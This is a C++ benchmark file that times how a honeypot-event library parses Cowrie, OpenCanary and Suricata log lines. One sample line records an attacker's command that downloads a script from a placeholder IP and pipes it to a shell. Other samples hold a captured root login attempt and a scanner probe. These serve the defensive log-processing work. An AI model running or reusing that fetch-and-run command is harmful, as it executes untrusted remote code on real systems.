// Cost of turning a line into an event: by its producer's adapter, as rulehost's own event with the same content, and
// as plain parsed JSON.
#include <rulehost/event_reader.hpp>
#include <rulehost/json_text.hpp>

#include <benchmark/benchmark.h>

#include <boost/json/monotonic_resource.hpp>
#include <boost/json/parser.hpp>

#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace {

using namespace rulehost;

constexpr time_point now{std::chrono::sys_days{std::chrono::March / 1 / 2026}};

struct sample {
    std::string_view format;
    std::string_view line; ///< one event
};

constexpr sample samples[]{
    {"cowrie",
     R"({"eventid":"cowrie.command.input","input":"cd /tmp; wget http://198.51.100.7/x.sh -O- | sh","message":"CMD: cd /tmp; wget http://198.51.100.7/x.sh -O- | sh","sensor":"cowrie-1","timestamp":"2026-03-01T10:00:00.250000Z","src_ip":"203.0.113.7","session":"0a1b2c3d4e5f"})"},
    {"opencanary",
     R"({"dst_host":"192.0.2.9","dst_port":22,"local_time":"2026-03-01 11:00:00.250000","logdata":{"LOCALVERSION":"SSH-2.0-OpenSSH_5.1p1","PASSWORD":"hunter2","REMOTEVERSION":"SSH-2.0-Go","USERNAME":"root"},"logtype":4002,"node_id":"opencanary-1","src_host":"203.0.113.7","src_port":50123,"utc_time":"2026-03-01 10:00:00.250000"})"},
    {"suricata",
     R"({"timestamp":"2026-03-01T12:00:00.123456+0200","flow_id":1764,"in_iface":"eth0","event_type":"http","src_ip":"203.0.113.7","src_port":4,"dest_ip":"192.0.2.9","dest_port":80,"proto":"TCP","tx_id":0,"http":{"hostname":"192.0.2.9","url":"/cgi-bin/x","http_user_agent":"zgrab/0.x","http_method":"GET","protocol":"HTTP/1.1","status":404,"length":9}})"}};

std::string as_event(sample const& given) {
    event_reader reader(event_format_from(given.format).value());
    auto const read = reader.read(given.line, now).value();
    if (read.size() != 1)
        throw std::logic_error("a sample is one event");
    auto const& made = read.front();
    boost::json::object whole;
    whole["source_kind"] = made.source_kind;
    whole["source_id"] = made.source_id;
    whole["attacker_uuid"] = made.attacker_uuid;
    whole["session_id"] = made.session_id;
    whole["decky_id"] = made.decky_id;
    whole["observed_at"] = format_time(made.observed_at);
    whole["payload"] = made.payload;
    return json_text(whole);
}

void read_lines(benchmark::State& state, event_format const& format, std::string const& line) {
    event_reader reader(format);
    for (auto _ : state)
        benchmark::DoNotOptimize(reader.read(line, now));
    state.SetItemsProcessed(state.iterations());
    state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(line.size()));
}

void parse_lines(benchmark::State& state, std::string const& line) {
    std::vector<unsigned char> room(64 * 1024);
    boost::json::parser parser;
    for (auto _ : state) {
        boost::json::monotonic_resource arena{room.data(), room.size()};
        parser.reset(&arena);
        parser.write(line);
        benchmark::DoNotOptimize(parser.release());
        parser.reset();
    }
    state.SetItemsProcessed(state.iterations());
    state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(line.size()));
}

[[maybe_unused]] auto const registered = [] {
    for (auto const& each : samples) {
        std::string const name(each.format);
        std::string const line(each.line);
        auto const native = as_event(each);
        auto const format = event_format_from(each.format).value();
        benchmark::RegisterBenchmark(("read_line/" + name).c_str(),
                                     [=](auto& state) { read_lines(state, format, line); });
        benchmark::RegisterBenchmark(("read_line/" + name + "/detected").c_str(),
                                     [=](auto& state) { read_lines(state, event_format::detect, line); });
        benchmark::RegisterBenchmark(("read_line/" + name + "/as_event").c_str(),
                                     [=](auto& state) { read_lines(state, event_format::event, native); });
        benchmark::RegisterBenchmark(("read_line/" + name + "/as_json").c_str(),
                                     [=](auto& state) { parse_lines(state, line); });
    }
    return true;
}();

} // namespace
